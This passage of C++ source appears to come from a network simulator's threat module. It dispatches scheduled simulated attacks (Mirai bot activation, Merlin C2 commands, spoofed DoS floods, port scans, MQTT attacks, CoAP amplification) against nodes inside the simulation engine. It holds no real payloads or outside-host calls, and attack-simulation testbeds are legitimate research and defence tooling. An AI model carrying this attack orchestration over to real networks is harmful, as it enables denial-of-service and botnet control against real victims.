    if (behavior_id == "mirai-loader") return std::make_unique<MiraiLoaderBehavior>();
    if (behavior_id == "http-file-server") return std::make_unique<HttpFileServerBehavior>();
    if (behavior_id == "merlin-cnc") return std::make_unique<MerlinCncBehavior>();
    if (behavior_id == "scanner") return std::make_unique<ScannerBehavior>();
    if (behavior_id == "mqtt-attacker") return std::make_unique<MqttAttackerBehavior>();
    if (behavior_id == "coap-attacker") return std::make_unique<CoapAttackerBehavior>();
    if (behavior_id == "metasploit") return std::make_unique<MetasploitBehavior>();
    return nullptr;
}

// Composite wrapper: a node's benign behavior plus threat add-ons (victim
// telnet service, dormant Merlin agent).
class CompositeBehavior : public sim::Behavior {
public:
    void add(std::unique_ptr<sim::Behavior> b) {
        if (b) parts_.push_back(std::move(b));
    }
    void start(Engine& eng, std::size_t node) override {
        for (auto& p : parts_) p->start(eng, node);
    }
    template <typename T>
    T* find() {
        for (auto& p : parts_)
            if (auto* t = dynamic_cast<T*>(p.get())) return t;
        return nullptr;
    }

private:
    std::vector<std::unique_ptr<sim::Behavior>> parts_;
};

// Merlin agents ride along dormant on devices; a merlin-install schedule
// entry activates them.
class MerlinAgentBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override { runtime_.init(eng, node); }
    MerlinAgentRuntime& runtime() { return runtime_; }

private:
    MerlinAgentRuntime runtime_;
};

namespace detail {

template <typename T>
inline T* behavior_part(Engine& eng, std::size_t node) {
    auto* b = eng.behavior(node);
    if (!b) return nullptr;
    if (auto* direct = dynamic_cast<T*>(b)) return direct;
    if (auto* comp = dynamic_cast<CompositeBehavior*>(b)) return comp->find<T>();
    return nullptr;
}

inline std::optional<Ipv4> resolve_target(Engine& eng, const std::string& target) {
    if (target.empty()) return std::nullopt;
    if (auto addr = Ipv4::parse(target)) return addr;
    if (eng.has_node(target)) return eng.node_addr(eng.node_index(target));
    return eng.resolve_static(target);
}

}  // namespace detail

// Resolves one schedule entry against the running engine.
inline void dispatch_entry(Engine& eng, const AttackEntry& e) {
    using detail::behavior_part;
    using detail::resolve_target;

    auto parse_dos = [&](const AttackEntry& entry) {
        DosAttackSpec spec;
        spec.kind = entry.params.count("kind") ? entry.params.at("kind") : "tcp-syn";
        if (auto t = resolve_target(eng, entry.target)) spec.target = *t;
        if (entry.params.count("dport"))
            spec.dport = static_cast<std::uint16_t>(std::atoi(entry.params.at("dport").c_str()));
        if (entry.params.count("rate_pps"))
            spec.rate_pps = std::atof(entry.params.at("rate_pps").c_str());
        if (entry.params.count("duration_s"))
            spec.duration_s = std::atof(entry.params.at("duration_s").c_str());
        if (entry.params.count("spoof"))
            spec.spoof_source = entry.params.at("spoof") == "true";
        return spec;
    };

    if (e.action == "mirai-activate") {
        std::string node_id = e.target.empty() ? "mirai-bot-1" : e.target;
        if (!eng.has_node(node_id)) return;
        std::size_t node = eng.node_index(node_id);
        if (auto* bot = behavior_part<MiraiBotBehavior>(eng, node)) bot->runtime().activate();
        else if (auto* victim = behavior_part<VictimTelnetBehavior>(eng, node))
            victim->bot().activate();
    } else if (e.action == "mirai-dos") {
        auto cnc = devices::find_node_by_template(eng, "mirai-cnc");
        if (!cnc) return;
        if (auto* b = behavior_part<MiraiCncBehavior>(eng, *cnc)) b->command_attack(parse_dos(e));
    } else if (e.action == "merlin-install") {
        if (!eng.has_node(e.target)) return;
        std::size_t node = eng.node_index(e.target);
        auto cnc = devices::find_node_by_template(eng, "merlin-cnc");
        if (!cnc) return;
        if (auto* agent = behavior_part<MerlinAgentBehavior>(eng, node)) {
            std::string pr = e.params.count("proto") ? e.params.at("proto") : "http1";
            double period = e.params.count("beacon_period_s")
                                ? std::atof(e.params.at("beacon_period_s").c_str())
                                : 30.0;
            agent->runtime().activate(eng.node_addr(*cnc), merlin_proto_from(pr), period);
        }
    } else if (e.action == "merlin-ingress" || e.action == "merlin-exec" ||
               e.action == "merlin-dos") {
        auto cnc = devices::find_node_by_template(eng, "merlin-cnc");
        if (!cnc) return;
        auto* server = behavior_part<MerlinCncBehavior>(eng, *cnc);
        if (!server) return;
        std::string cmd;
        if (e.action == "merlin-ingress") cmd = "ingress";
        else if (e.action == "merlin-exec") cmd = "exec";
        else {
            auto spec = parse_dos(e);
            cmd = "flood " + spec.kind + " " + spec.target.str() + " " +
                  std::to_string(spec.dport) + " " + std::to_string(spec.rate_pps) + " " +
                  std::to_string(spec.duration_s);
        }
        std::string agent = e.params.count("agent") ? e.params.at("agent") : "";
        if (!agent.empty()) {
            if (auto a = detail::resolve_target(eng, agent)) server->queue_command(*a, cmd);
        } else {
            server->queue_broadcast(cmd);
        }
    } else if (e.action == "scan") {
        auto scanner = devices::find_node_by_template(eng, "scanner");
        if (!scanner) return;
        auto* b = behavior_part<ScannerBehavior>(eng, *scanner);
        if (!b) return;
        std::string profile = e.params.count("profile") ? e.params.at("profile") : "thorough";
        std::vector<Ipv4> hosts;
        if (auto prefix = Prefix::parse(e.target)) {
            std::uint32_t count = 1u << (32 - prefix->len);
            for (std::uint32_t h = 1; h + 1 < count; ++h)
                hosts.push_back(Ipv4((prefix->base.v & prefix->mask()) | h));
        } else if (auto addr = detail::resolve_target(eng, e.target)) {
            hosts.push_back(*addr);
        }
        std::vector<std::uint16_t> ports;
        std::string spec = e.params.count("ports") ? e.params.at("ports") : "1-1024";
        for (const auto& part : split(spec, ',')) {
            auto dash = part.find('-');
            if (dash == std::string::npos) {
                ports.push_back(static_cast<std::uint16_t>(std::atoi(part.c_str())));
            } else {
                int lo = std::atoi(part.substr(0, dash).c_str());
                int hi = std::atoi(part.substr(dash + 1).c_str());
                for (int p = lo; p <= hi; ++p) ports.push_back(static_cast<std::uint16_t>(p));
            }
        }
        b->scan(profile, hosts, ports);
    } else if (e.action == "mqtt-attack") {
        std::string node_id = e.params.count("node") ? e.params.at("node") : "mqtt-attacker-1";
        if (!eng.has_node(node_id)) return;
        auto* b = behavior_part<MqttAttackerBehavior>(eng, eng.node_index(node_id));
        if (!b) return;
        auto broker = detail::resolve_target(eng, e.target);
        if (!broker) return;
        std::string kind = e.params.count("kind") ? e.params.at("kind") : "info-disclosure";
        std::uint16_t port = proto::kPortMqtt;
        if (e.params.count("port"))
            port = static_cast<std::uint16_t>(std::atoi(e.params.at("port").c_str()));
        b->attack(kind, *broker, port, e.params);
    } else if (e.action == "coap-amplification") {
        auto attacker = devices::find_node_by_template(eng, "coap-attacker");
        if (!attacker) return;
        auto* b = behavior_part<CoapAttackerBehavior>(eng, *attacker);
        if (!b) return;
        auto server = detail::resolve_target(eng, e.target);
        auto victim = e.params.count("victim")
                          ? detail::resolve_target(eng, e.params.at("victim"))
                          : std::nullopt;
        if (!server || !victim) return;
        int count = e.params.count("count") ? std::atoi(e.params.at("count").c_str()) : 100;
        double rate = e.params.count("rate_pps") ? std::atof(e.params.at("rate_pps").c_str()) : 50;
        b->amplify(*server, *victim, count, rate);
    }
}

// Registers every schedule entry as a timed event.
inline void schedule_attacks(Engine& eng, const AttackSchedule& schedule) {
    auto errors = validate_schedule(schedule);
    if (!errors.empty()) throw Error("attack schedule: " + errors[0]);
    for (const auto& e : schedule.entries)
        eng.schedule_at(e.at, [&eng, e] { dispatch_entry(eng, e); });
}

}  // namespace gotham::threats
